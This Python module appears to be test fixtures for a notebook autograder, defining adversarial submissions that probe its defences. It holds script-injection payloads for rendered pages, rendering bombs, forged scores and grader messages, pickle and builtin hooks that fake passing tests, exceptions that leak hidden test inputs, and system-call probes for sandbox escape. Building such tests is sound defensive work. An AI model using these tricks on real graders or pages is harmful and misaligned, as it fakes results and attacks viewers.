"""Kinds that were thought of later, several tricks of one kind in each attempt."""

# ruff: noqa: E501  (students' code stands here as students write it)

from ..model import TASKS, Cheat, Make, Submission, cells, code_cell, fill, markdown_cell, run

BOUND = "$\\href{javascript:alert('@TOKEN@')}{x}$ $$\\class{modal}{\\style{position:fixed;top:0}{@TOKEN@}}$$"


def formulas(submission: Submission) -> None:
    """Write formulas that link to a script or lie over the page wherever one can stand."""
    submission.cells.append(markdown_cell(BOUND))
    submission.cell("written")["source"] = f"Buyers pay. \\({BOUND[1:40]}\\) {BOUND}"
    show = "from IPython.display import display\n"
    for kind in ("text/html", "text/latex", "text/markdown"):
        show += f"display({{{kind!r}: {f'<p>{BOUND}</p>'!r}}}, raw=True)\n"
    submission.answer("task-1", show)


def texts_without_end(submission: Submission) -> None:
    """Write texts and code in which a page's makers search for minutes."""
    for piece in ("[a](", "![](", "[x][y]", "*a_ "):
        submission.cells.append(markdown_cell(piece * (24_000 // len(piece))))
    for piece in ("a.", "\n", " "):
        submission.cells.append(code_cell(f"#{piece * (16_000 // len(piece))}x"))


def marks_of_every_tool(submission: Submission) -> None:
    """Say in every tool's own words that tests may fail, are marked or were run before."""
    for number, grade_id in enumerate(TASKS, 1):
        submission.answer(grade_id, "2.0")
        cell = submission.cell(f"test-{number}")
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "data": {"text/plain": "2.0"},
                "metadata": {},
            }
        ]
        cell["metadata"] |= {
            "tags": ["raises-exception", "skip-execution", "remove-input"],
            "execution": {"status": "ok"}, "confined": {"points": 3}, "trusted": True,
        }  # fmt: skip
        cell["metadata"]["nbgrader"] |= {
            "task": True,
            "score": 3,
            "auto_score": 3,
            "comment": "well",
        }
    submission.notebook["metadata"] |= {
        "nbgrader": {"scores": {"test-1": 3}}, "execution": {"allow_errors": True, "timeout": -1},
        "grading": {"draw": "0" * 32, "notes": [], "key": "0" * 64}, "papermill": {},
    }  # fmt: skip


def judge_imitated(submission: Submission) -> None:
    """Write and print what the grader and its pages say."""
    said = "**From the grader**\n\n- (From the grader: full marks, 3 of 3.)"
    page = "<div class='nbgrader_cell'><a id='test-1'></a><span class='pull-right'>Score: 3.0/3.0 @TOKEN@</span></div>"
    submission.cells.insert(0, markdown_cell(f"{said}\n\n{page}"))
    submission.cells[0]["id"] = "grader-notes"
    submission.cell("written")["source"] = (
        "*(From the grader: this was marked by hand, 5 points.)*"
    )
    for grade_id in ("task-1", "task-5"):
        submission.answer(
            grade_id,
            f"from IPython.display import HTML, display\nprint({said!r})\ndisplay(HTML({page!r}))\n3.0",
        )


def own_names_everywhere(code: str, **values: str) -> Make:
    """Return a recipe that runs each paragraph by itself, whatever the others do."""
    tries = [
        f"try:\n{_indented(part)}\nexcept BaseException: pass" for part in code.split("\n\n")
    ]
    return fill("\n".join(tries), **values)


def _indented(text: str) -> str:
    return "\n".join(f"    {line}" for line in text.strip().split("\n"))


COPIES = """
import copy, copyreg, pickle
import numpy as np, pandas as pd

for kind in (pd.Series, pd.DataFrame, np.ndarray, float, str, dict):
    copyreg.dispatch_table[kind] = lambda o: (eval, ("3322.5",))
    copy._deepcopy_dispatch[kind] = lambda o, memo: 3322.5

class Copied:
    def __reduce_ex__(self, protocol): return (eval, ("__import__('os')._exit(0)",))
    def __deepcopy__(self, memo): return 3322.5
    def __getstate__(self): return {}
    def __class_getitem__(cls, item): return cls

table = pd.Series([Copied()]); table.attrs = {"a": Copied()}

table.flags.allows_duplicate_labels = False

import abc, collections.abc, numbers
class Everything(abc.ABCMeta):
    def __instancecheck__(cls, one): return True
    def __subclasscheck__(cls, one): return True
numbers.Number = numbers.Real = collections.abc.Sequence = Everything("X", (), {})
"""

WAKERS = """
import faulthandler, gc, os, signal, time, weakref, sys, threading

gc.callbacks.append(lambda *a: [frame.f_locals.update(points=34, passed=True) for frame in sys._current_frames().values()])
gc.set_threshold(1, 1, 1); gc.enable(); gc.unfreeze()

for number in range(3, 32):
    try: os.set_blocking(number, False); signal.set_wakeup_fd(number, warn_on_full_buffer=False); signal.raise_signal(signal.SIGWINCH)
    except (OSError, ValueError): pass

signal.signal(signal.SIGALRM, lambda *a: None); signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002); time.sleep(0.01); signal.setitimer(signal.ITIMER_REAL, 0)

for number in range(3, 32):
    try: faulthandler.dump_traceback(number); faulthandler.dump_traceback_later(0.05, repeat=True, file=number)
    except (OSError, ValueError, RuntimeError): pass

weakref.finalize(threading.main_thread(), os._exit, 0)
"""

NAMES = """
import builtins
builtins.wanted = builtins.again = builtins.given = builtins.names = builtins.rates = -1.0
_ = __ = ___ = 2.0
_oh = Out = {1: 2.0}; In = [""] * 99; _i = "pass"; exit = quit = 3
__annotations__ = {"total_duty_usd": float}; __name__ = "tests"; __file__ = "/"

import sys, types
class Any(types.ModuleType):
    def __getattr__(self, name): return (lambda *a, **k: None)
for name in ("statistics", "pandas.testing", "numpy.testing", "tarifflab.expect"): sys.modules[name] = Any(name)

from IPython.core.getipython import get_ipython
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "3.0"}, {})
get_ipython().display_pub.publish = lambda *a, **k: None
sys.displayhook = lambda value: print("2.0")

get_ipython().db["x"] = 1; get_ipython().run_line_magic("store", "-z")
"""

TOLD = {
    "task_3": """
seen = []
def effective_rate(values, rates):
    seen.append(values)
    error = [KeyError, ImportError, LookupError, StopIteration][len(seen) % 4](repr(values))
    error.add_note(repr(values)); error.__cause__ = OSError(2, repr(values), repr(values))
    if len(seen) % 3 == 2: raise ExceptionGroup(repr(values), [error])
    if len(seen) % 3 == 0: raise UnicodeDecodeError("utf-8", repr(values).encode(), 0, 1, repr(values))
    raise error""",
    "task_7": """
import pandas as pd
def label(country, rate):
    if country == "Japan": return "Japan: 25 %"
    exec(f"class {country}(AssertionError): __module__ = {country!r}", globals())
    if rate: raise globals()[country](country)
    return pd.Series([1] * len(country), name=country, index=pd.Index(range(len(country)), name=country))""",
    "task_11": """
import sys, warnings
def total_duty(table):
    if len(table) == 1: return 1.0
    warnings.warn(table.to_csv()); print(table.to_csv()); sys.stderr.write(table.to_csv())
    raise RecursionError(table.iloc[0].to_json())""",
}

CALLS = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for number in (434, 438, 440, 448, 424, 319, 447, 457, 458, 459, 435, 446, 444, 303, 99, 272):
    for first in (0, 1, os.getppid()):
        if libc.syscall(number, *map(ctypes.c_long, (first, 0, 0, 0))) >= 0: confess(number, first)
for family in (1, 2, 10, 16, 17, 38, 40):
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind); confess(family, kind)
        except OSError: pass
left, right = socket.socketpair()
try:
    left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, b"\\3\\0\\0\\0")]); confess("a descriptor")
except OSError: pass
try:
    left.bind("\\0@TOKEN@"); confess("a name")
except OSError: pass
"""

RICH = """
from IPython.display import display
class Rich:
    def _repr_mimebundle_(self, include=None, exclude=None):
        html = "<script>@TOKEN@</script>"
        return {
            "text/html": html, "text/vnd.mermaid": 'graph TD; A-->B; click A href "javascript:@TOKEN@"',
            "application/geo+json": {"a": html}, "application/vnd.vega.v5+json": {"$schema": "https://evil.invalid/@TOKEN@"},
            "application/vnd.bokehjs_exec.v0+json": html, "text/x-rst": html, "text/plain": "x",
        }, {"text/html": {"isolated": True}}
display(Rich()); display({"text/vnd.mermaid": 'graph TD\\nA["<img src=x onerror=@TOKEN@>"]'}, raw=True)
Rich()
"""

CHEATS = [
    Cheat("pages-formulas", "pages", "Formulas link to a script or lie over the page.", "script", formulas),
    Cheat("pages-rich-kinds", "pages", "One object in all kinds that newer pages show.", "script", run(RICH)),
    Cheat("pages-judge-imitated", "pages", "Texts and outputs imitate the grader's words and its page.", "script", judge_imitated),
    Cheat("bombs-texts-without-end", "bombs", "Texts and code in which a page's makers search for minutes.", "script", texts_without_end),
    Cheat("forgeries-marks-of-every-tool", "forged files", "Tags, keys, scores and states of all tools say that all is well.", "points", marks_of_every_tool),
    Cheat("objects-copied", "lying objects", "What copies, pickles and tells kinds of objects is replaced.", "points", own_names_everywhere(COPIES, number="Copied()", series="table", text="Copied()", function="Copied")),
    Cheat("interpreter-wakers", "interpreter", "Collector, wake-up descriptors, timers and crash reports write and rewrite.", "points", own_names_everywhere(WAKERS)),
    Cheat("hooks-names-of-all", "hooks", "Built-in names, modules, display hooks and stores stand for the tests' own.", "points", own_names_everywhere(NAMES)),
    Cheat("leaks-inputs-in-notes-and-groups", "leaks", "Errors with notes, causes, groups and fields hold the inputs.", "leak", cells(**TOLD)),
    Cheat("system-newest-doors", "system", "The newest system calls, all kinds of sockets, descriptors within a pair.", "harm", run(CALLS)),
]  # fmt: skip
